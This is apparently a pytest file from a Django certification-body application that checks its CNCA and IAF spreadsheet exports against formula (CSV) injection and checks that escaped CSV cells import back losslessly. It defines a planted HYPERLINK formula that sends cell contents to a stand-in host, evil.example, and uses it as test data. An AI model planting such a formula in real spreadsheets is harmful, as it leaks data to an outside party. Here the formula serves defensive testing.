"""A formula planted in a client's data never runs in the regulator's Excel, and our own files import back exactly."""

from __future__ import annotations

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from certbody.certificates.models import Certificate, CertificateVersion
from certbody.core.spreadsheet import DANGEROUS, csv_text
from certbody.regulator.importing import IMPORT_KEYS
from certbody.regulator.services import certificates_import

from .test_exchange import TODAY, row

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_planted_manufacturer_and_product_stay_text_in_the_cnca_and_iaf_files(cast, software_scheme, tmp_path):
    certificates_import(
        actor=cast.quality,
        file_name="x.csv",
        content=csv_text([IMPORT_KEYS, [row("NFCC-OLD-0001")[k] for k in IMPORT_KEYS]]).encode(),
    )
    version = CertificateVersion.objects.get()
    version.units = [{**unit, "manufacturer": PLANTED, "product_name": "+" + PLANTED} for unit in version.units]
    CertificateVersion.objects.filter(pk=version.pk).update(units=version.units, holder_address="@" + PLANTED)
    Certificate.objects.update(updated_at=timezone.now())
    call_command("export_cnca", "--changes", "--output", str(tmp_path / "cnca.xlsx"))
    call_command("export_iaf", "--changes", "--output", str(tmp_path / "iaf"))
    for path in [tmp_path / "cnca.xlsx", *(tmp_path / "iaf").glob("*.xlsx")]:
        cells = [c for r in load_workbook(path).worksheets[0].iter_rows() for c in r]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        planted = [c.value for c in cells if isinstance(c.value, str) and PLANTED in c.value]
        assert planted and all(v[:1] in DANGEROUS for v in planted)  # exact values, typed as text


def test_our_csv_imports_back_exactly(cast, software_scheme):
    """The `'` that neutralises a formula-like CSV cell is taken off by the importer: the round trip is lossless."""
    names = ["=1+2", "-Pro", "'=quoted", "@home", "O'Brien"]
    lines = [IMPORT_KEYS] + [
        [row(f"NFCC-OLD-{i:04d}", product_name=name, manufacturer=name)[k] for k in IMPORT_KEYS]
        for i, name in enumerate(names)
    ]
    content = csv_text(lines).encode("utf-8")
    assert b"'=1+2" in content and b"''=quoted" in content
    batch = certificates_import(actor=cast.quality, file_name="x.csv", content=content, today=TODAY)
    assert batch.rows_imported == len(names)
    got = {c.number: c.product_name for c in Certificate.objects.all()}
    assert [got[f"NFCC-OLD-{i:04d}"] for i in range(len(names))] == names
    units = {
        v.certificate.number: v.units[0]["manufacturer"]
        for v in CertificateVersion.objects.select_related("certificate")
    }
    assert [units[f"NFCC-OLD-{i:04d}"] for i in range(len(names))] == names
